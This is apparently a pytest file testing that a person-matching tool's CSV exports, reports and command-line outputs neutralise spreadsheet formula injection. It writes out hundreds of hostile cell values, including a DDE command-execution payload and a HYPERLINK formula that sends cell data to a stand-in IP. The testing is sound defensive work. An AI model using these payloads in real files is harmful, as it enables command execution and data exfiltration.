"""Words that a spreadsheet would run, on every way by which a table leaves (security.md, test 23)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kintrace.cli import app
from kintrace.duties import paper
from kintrace.duties.paper import Line, Paper
from kintrace.lists.results import Results, safe
from kintrace.lists.shares import Share, SharedPerson
from kintrace.lists.shares.tables import write_table
from kintrace.matching.person import Person

STARTS = "=+-@\t\r\n\0|%＝＋－＠﹢﹣﹦﹫−"
SPACES = ("", " ", "\u00a0", "\u3000", "\ufeff")
RESTS = ("1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("http://198.51.100.7/?"&A1;"x")', "@SUM(1)")
BEFORE = ("", "Омск;", "Омск; ", "Омск\t", "Омск\n", "Омск\r\n ", '"Омск";', "Омск,")
FIRST = [f"{space}{start}{rest}" for start in STARTS for space in SPACES for rest in RESTS]
HOSTILE = [f"{before}{text}" for text in FIRST[::3] for before in BEFORE] + FIRST


def formulas(table: str) -> list[str]:
    """Return each cell that a spreadsheet would run, however it divides the columns."""
    found = []
    for delimiter in ",;\t":
        # Excel knows a quoted cell only where the quote begins it; a cut elsewhere leaves the rest bare.
        for row in csv.reader(io.StringIO(table.replace("\0", ""), newline=""), delimiter=delimiter):
            for cell in row:
                for line in cell.splitlines():
                    bare = line.lstrip(' \u00a0\u3000\ufeff"')
                    if bare[:1] in set(STARTS) - {"\t"} and bare[:1] and len(bare) > 1:
                        found.append(cell)
    return found


def test_a_reader_that_knows_formulas_finds_one() -> None:
    assert formulas("a,=1+1\n") == ["=1+1"]
    assert formulas("a,Омск;=1+1\n") == ["=1+1"]
    assert formulas('a,"Омск\n=1+1"\n') != []
    assert formulas("a,'=1+1\n") == []


def test_more_than_five_hundred_beginnings_are_tried() -> None:
    assert len(HOSTILE) > 500


@pytest.mark.parametrize("text", ["Омск; +79990000000", "в/ч 1; в/ч 2", "Иванов\nПётр", "a=b; c-d"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_no_formula_leaves_in_a_table_of_persons() -> None:
    people = tuple(
        SharedPerson(id=text, kind="listed", described=Person(name=text, region=text, marks=text))
        for text in HOSTILE
    )
    share = Share(
        made_at=datetime(2026, 11, 2, tzinfo=UTC),
        sender="a.example",
        recipient="b",
        purpose="search",
        persons=people,
    )

    assert formulas(write_table(share).data.decode("utf-8-sig")) == []


def test_no_formula_leaves_in_a_table_of_candidates() -> None:
    out = io.StringIO(newline="")
    table = Results(out)
    for text in HOSTILE:
        table.write([text, text, 1, 2.5, 0.5, text])

    assert formulas(out.getvalue()) == []


def test_no_formula_leaves_in_a_report_of_duties() -> None:
    lines = [Line((text, text, "1", "1", "0", "0"), False) for text in HOSTILE]
    made = Paper(HOSTILE[1], HOSTILE[2], tuple(HOSTILE[:6]), lines, tuple(HOSTILE[:9]))

    assert formulas(paper.as_csv(made).decode("utf-8-sig")) == []


@pytest.mark.parametrize("command", ["convert", "match"])
def test_no_formula_leaves_by_the_command_line(command: str, tmp_path: Path) -> None:
    hostile = tmp_path / "hostile.csv"
    with hostile.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "ФИО", "Дата рождения", "Регион"])
        for number, text in enumerate(FIRST[::4]):
            writer.writerow([f"{text}{number}", "Иванов Иван Петрович", "12.04.2000", text])
    other, out = tmp_path / "other.csv", tmp_path / "out.csv"
    other.write_text("id;ФИО;Дата рождения\n=1+1;Иванов Иван Петрович;12.04.2000\n", encoding="utf-8")
    arguments = [hostile, out] if command == "convert" else [hostile, other, "--out", out]

    done = CliRunner().invoke(app, [command, *[str(each) for each in arguments]], catch_exceptions=False)

    assert out.exists(), done.output
    table = out.read_text("utf-8-sig")
    assert table.count("\n") > 50
    assert formulas(table) == []
